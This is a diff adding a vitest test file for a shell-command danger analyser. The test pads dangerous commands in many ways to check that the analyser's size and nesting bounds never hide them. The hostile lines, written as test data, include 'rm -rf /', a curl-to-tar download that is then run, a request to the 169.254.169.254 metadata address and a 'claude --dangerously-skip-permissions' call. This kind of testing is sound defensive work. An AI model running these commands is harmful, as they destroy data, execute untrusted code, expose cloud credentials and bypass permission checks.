@@ -1,0 +1,41 @@
+import { expect, test } from 'vitest'
+import { analyse } from '../analyse.ts'
+import { linux, workspace } from '../testing.ts'
+import { bounds } from './bounds.ts'
+
+const danger = 'rm -rf /'
+const times = (count: number, of: (at: number) => string): string => Array.from({ length: count }, (_, at) => of(at)).join('')
+
+/** For each bound a command that stays below a number of it, or passes it, with what is dangerous at its end. */
+const commands: { readonly [name in keyof typeof bounds]: (count: number) => string } = {
+  length: count => `: ${'x'.repeat(count - danger.length - 3)}\n${danger}`,
+  documents: count => `cat > f <<'E'\n${`${'x'.repeat(99)}\n`.repeat(Math.floor(count / 100) - 1)}E\n${danger}`,
+  depth: count => times(count, at => `f${at}() { f${at + 1}; }; `) + `f${count}() { ${danger}; }; f0`,
+  invocations: count => `${'true;'.repeat(count)}${danger}`,
+  again: count => `${'true;'.repeat(count)}${danger}`,
+  braces: count => `rm -rf {${times(count - 1, at => `a${at},`)}/}`,
+  values: count => `for x in ${times(count - 1, at => `a${at} `)} /; do rm -rf "$x"; done`,
+  fields: count => `a=(${times(count - 1, () => 'x ')} /); rm -rf "\${a[@]}"`,
+  files: count => `${times(count - 1, at => `echo a > f${at};`)} echo '${danger}' > last; sh last`,
+  effects: count => `${times(count, at => `rm -rf src/a${at};`)} ${danger}`,
+  unpacked: count =>
+    `${times(count - 1, at => `curl http://a.example/x | tar xz -C d${at};`)} curl http://a.example/x | tar xz -C d; d/run`,
+  hosts: count => `curl ${times(count - 1, at => `http://h${at}.example/ `)} http://169.254.169.254/`,
+  embedded: count => `runner ${times(count - 1, () => "'claude -p x' ")} 'claude --dangerously-skip-permissions -p x'`,
+}
+
+const certainty = (command: string): string =>
+  analyse(command, { cwd: workspace, workspaceRoots: [workspace], host: linux }).certainty
+
+test.each(Object.keys(commands) as (keyof typeof bounds)[])('%s: proved below, never ordinary above', name => {
+  const bound = bounds[name]
+  expect(certainty(commands[name](Math.max(1, Math.floor(bound / 4)))), 'below').toBe('proved-dangerous')
+  for (const above of [bound + 1, bound + 2, bound * 2, bound * 3])
+    expect(certainty(commands[name](above)), `${above}`).not.toBe('proved-ordinary')
+})
+
+test('a name may stand for another any number of times', () => {
+  const command = (count: number): string => `r0=/; ${times(count, at => `declare -n r${at + 1}=r${at};`)} rm -rf "$r${count}"`
+  for (const count of [1, 5, 6, 30]) expect(certainty(command(count))).toBe('proved-dangerous')
+  expect(certainty('declare -n a=b; declare -n b=a; rm -rf "$a"')).not.toBe('proved-dangerous')
+})
